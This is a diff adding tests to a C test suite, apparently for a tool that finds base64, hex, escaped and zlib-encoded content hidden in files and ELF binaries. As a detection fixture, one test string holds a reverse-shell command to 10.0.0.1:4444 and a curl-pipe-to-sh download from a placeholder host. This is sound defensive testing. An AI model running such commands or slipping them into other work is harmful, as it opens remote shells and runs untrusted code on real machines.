@@ -1013,12 +1013,49 @@ static void test_b64_in_elf(void)
         for (size_t i = 0; i < s.n; i++)
             found |= strcmp(s.names[i], "(base64)") == 0 && s.sizes[i] == sizeof prog;
         CHECK(found);
+        /* a run of the program's own letters, decoding to nothing worth
+         * reading, is no member (pc_enc_worth) */
+        memset(buf + 2000, 0, 1000);
+        for (size_t i = 0; i < 200; i++)
+            buf[2000 + i] = (unsigned char)tab[(i * 7 + pre) % 64];
+        seen j = {0};
+        inspect(buf, sizeof buf, 1 << 20, 0, 0, &j);
+        CHECK(j.n == s.n);
         /* bytes that are no ELF file and no text: not searched */
         buf[0] = 0;
         seen t = {0};
         inspect(buf, sizeof buf, 1 << 20, 0, 0, &t);
         CHECK(t.n == 0);
     }
+}
+
+/* what a run found in a program decodes to is read when it is worth it */
+static void test_enc_worth(void)
+{
+    unsigned char junk[300], text[300], prog[300], z[600];
+    for (size_t i = 0; i < sizeof junk; i++)
+        junk[i] = (unsigned char)(i * 131 + 7);
+    memset(text, 0, sizeof text);
+    snprintf((char *)text, sizeof text, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; %s",
+             "curl http://example.invalid/x | sh");
+    memset(prog, 0, sizeof prog);
+    memcpy(prog,
+           "\x7f"
+           "ELF\x02\x01\x01",
+           7);
+    CHECK(!pc_enc_worth(junk, sizeof junk));
+    CHECK(pc_enc_worth(text, strlen((char *)text)));
+    CHECK(pc_enc_worth(prog, sizeof prog));
+    memcpy(junk + 100, prog, 64); /* a program after other bytes */
+    prog[16] = 2, prog[18] = 62, prog[52] = 64, prog[54] = 56, prog[56] = 1, prog[32] = 64;
+    memcpy(junk + 100, prog, 64);
+    CHECK(pc_enc_worth(junk, sizeof junk));
+    uLongf zl = sizeof z;
+    CHECK(compress2(z, &zl, prog, sizeof prog, 9) == Z_OK);
+    CHECK(pc_enc_worth(z, zl)); /* (zlib of a program: decoded in turn) */
+    CHECK(pc_enc_shifts(PC_ENC_BASE64) == 4 && pc_enc_shifts(PC_ENC_HEX) == 2 &&
+          pc_enc_shifts(PC_ENC_ESCAPED) == 1);
+    CHECK(pc_enc_skip((const unsigned char *)"ab\ncd", 5, 3, PC_ENC_BASE64) == 4);
 }
 
 static void test_sniff(void)
@@ -1224,6 +1261,7 @@ int main(void)
     test_streamfind();
     test_zlib_carve();
     test_b64_in_elf();
+    test_enc_worth();
     test_depth();
     test_stream();
     test_stub();
